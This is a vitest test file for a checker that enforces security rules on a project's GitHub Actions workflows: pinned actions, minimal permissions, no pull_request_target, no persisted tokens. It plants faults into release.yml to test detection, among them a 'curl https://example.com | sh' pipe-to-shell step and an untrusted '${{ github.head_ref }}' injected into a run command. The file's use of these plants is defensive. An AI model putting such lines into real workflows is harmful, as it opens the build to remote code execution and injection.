import { readFileSync, readdirSync } from "node:fs";
import { join } from "node:path";

import { describe, expect, it } from "vitest";

import { RULES, faultsOf, pinsOf } from "./_workflows.ts";

const ROOT = join(import.meta.dirname, "../..");
const FOLDER = join(ROOT, ".github/workflows");

const { napi, scripts } = JSON.parse(readFileSync(join(ROOT, "package.json"), "utf8")) as {
  napi: { targets: string[] };
  scripts: Record<string, string>;
};
const known = {
  targets: napi.targets,
  scripts: Object.keys(scripts),
  releaseCommands: readdirSync(join(ROOT, "scripts/release")).map((name) => name.replace(/\.mjs$/, "")),
};

const workflows = new Map(readdirSync(FOLDER).map((name) => [name, readFileSync(join(FOLDER, name), "utf8")]));
const release = workflows.get("release.yml") ?? "";

/** What to write into release.yml instead of what, to break one rule. */
const PLANTS: readonly (readonly [rule: string, from: string, to: string])[] = [
  ["actions are pinned to a commit, with its version", "@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1", "@v7"],
  ["actions are pinned to a commit, with its version", " # v6.4.0", ""],
  ["no trigger runs others' code with our rights", "  pull_request:", "  pull_request_target:"],
  ["the workflow itself has no permissions", "permissions: {}\n", ""],
  ["each job reads alone, but for the one that publishes", "contents: read", "contents: write"],
  [
    "each job reads alone, but for the one that publishes",
    "      contents: read\n",
    "      contents: read\n      id-token: write\n",
  ],
  ["what publishes waits for the tests, the packages and a person", "    environment: npm\n", ""],
  ["what publishes waits for the tests, the packages and a person", "[tests, packages]", "[packages]"],
  ["a run replaces the one before it, or waits", "concurrency:\n", "env:\n"],
  ["jobs end", "    timeout-minutes: 30\n", ""],
  ["no token stays in the checkout", "persist-credentials: false", "persist-credentials: true"],
  ["no cache that another job could have filled", "package-manager-cache: false", "cache: npm"],
  ["jobs run npm scripts that exist", "npm run release -- assemble", "npm run release -- gather"],
  ["jobs run npm scripts that exist", "npm run check -- generated", "curl https://example.com | sh"],
  ["jobs run npm scripts that exist", '"$TARGET"', "${{ github.head_ref }}"],
  ["what runs the long suites has installed a nightly Rust before", "npm run check -- generated", "npm run test:long"],
  [
    "a matrix of targets has those of package.json",
    "          - { target: x86_64-apple-darwin, runner: macos-latest }\n",
    "",
  ],
];

describe("the workflows", () => {
  it.each([...workflows])("%s breaks no rule", (_name, text) => {
    expect(faultsOf(text, known)).toEqual([]);
  });

  it("pin each action to one commit", () => {
    const pins = new Set([...workflows.values()].flatMap(pinsOf));
    const actions = [...pins].map((pin) => pin.split("@")[0]);
    expect(actions.length).toBeGreaterThan(0);
    expect(actions).toEqual([...new Set(actions)]);
  });

  it("build and try every target", () => {
    const mentions = known.targets.map((target) => release.split(`target: ${target},`).length - 1);
    expect(mentions).toEqual(known.targets.map(() => 2));
  });
});

describe("the rules", () => {
  it.each(PLANTS)("find: %s, where %j is %j", (rule, from, to) => {
    expect(release).toContain(from);
    const faults = faultsOf(release.replace(from, to), known);
    expect([...new Set(faults.map((fault) => fault.slice(0, rule.length)))]).toEqual([rule]);
  });

  it("each have a planted fault", () => {
    expect([...new Set(PLANTS.map(([rule]) => rule))]).toEqual(Object.keys(RULES));
  });
});
